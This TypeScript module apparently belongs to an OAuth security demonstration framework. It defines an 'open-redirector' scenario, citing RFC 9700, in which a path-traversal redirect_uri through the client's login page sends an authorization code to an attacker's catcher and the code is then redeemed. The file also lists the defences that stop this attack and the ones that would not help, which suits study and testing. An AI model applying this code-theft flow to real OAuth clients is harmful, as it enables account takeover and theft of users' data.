import { redirectTarget } from '../../../client/page-visitor.js'
import { clientUrl, showsNotes, visitNotes } from '../demo-client.js'
import { attack, type Defence } from '../model.js'
import {
  authorize,
  codeRequest,
  need,
  notesApp,
  parameterOf,
  stealByCode,
  THEFT_BY_PUBLIC_CLIENT,
} from '../moves.js'

const REDIRECTOR: Defence = { check: 'return_to', rule: 'RFC 9700 §4.11.1' }

/** A code that a page of the client itself sends on to the attacker. */
export const openRedirector = attack({
  name: 'open-redirector',
  title: 'a code that a page of the client sends on to the attacker',
  rule: 'RFC 9700 §4.1.2',
  weak: ['redirect-prefix', 'open-redirect'],
  opened: {
    'redirect-prefix': { check: 'return_to' },
    'redirect-any': { check: 'return_to' },
  },
  starts: [
    'The attacker can send alice a link, and has a server of their own (A1 in RFC 9700 §3).',
    'The attacker knows the client_id of a public client, and its registered address.',
    'A page of the same site leads on to an address in its query. Alice is logged in there.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'redirect_uri', rule: 'RFC 9700 §4.1.3' }, REDIRECTOR],
  wouldNotHelp: [
    'registered addresses, where only their beginning is compared: the code goes to the real site first',
    'PKCE: the attacker made the request, so the verifier is the attacker’s too',
    'state: the answer never comes to the page that would compare it',
  ],
  demoClient: true,
  running: { never: 'it has no public client at the site of the demo client' },
  clients: (_, client) => [notesApp(`${client}/app`)],
  story: {
    honest_login: 'Alice is logged in at the demo client, and reads her notes.',
    lure: 'The attacker sends alice an authorization request, whose redirect_uri leads through a page of the client to the attacker.',
    authorization_request:
      'Alice opens the link. The server compares redirect_uri with the registered address.',
    authorization_response:
      'The code comes to a page of the client that leads on. The page must not lead to other sites.',
    code_arrival: 'Her browser follows the second redirect and brings the code to the attacker.',
    ...THEFT_BY_PUBLIC_CLIENT,
  },
  lanes: {
    honest_login: ['user_agent', 'client', 'GET /notes', '6749 §4.1'],
    lure: ['attacker', 'user_agent', 'a link in a mail', '9700 §4.1.2'],
    authorization_response: ['user_agent', 'client', 'GET /login', '9700 §4.11.1'],
  },
  async *run(scene) {
    const {
      victim,
      site,
      catcher: { client },
      step,
    } = scene
    const notes = await visitNotes(scene, victim)
    yield step('honest_login', { exchange: notes })
    if (!showsNotes(notes)) return notes

    const address = `${site.url}/catch`
    // A browser takes the two dots away: the registered beginning is only for the server that compares.
    const detour = `${clientUrl(scene)}/app/../login?return_to=${encodeURIComponent(address)}`
    const { url, redemption } = codeRequest(scene, client, detour)
    yield step('lure', { url, note: `the answer is to go to ${detour}` })
    const names = ['authorization_request', 'authorization_request'] as const
    const { target, exchange } = yield* authorize(scene, victim, url, names)
    need(target, exchange)
    const redirected = (await victim.follow(exchange))!
    yield step('authorization_response', { exchange: redirected, note: 'the code comes to the login page' })
    if (!redirectTarget(redirected)?.startsWith(address)) return redirected
    const arrived = (await victim.follow(redirected))!
    yield step('code_arrival', { exchange: arrived })

    const code = parameterOf(arrived.request.url, 'code')
    if (code === undefined) return { ...REDIRECTOR, detail: 'the redirect left the code behind' }
    return yield* stealByCode(scene, client, redemption(code))
  },
})
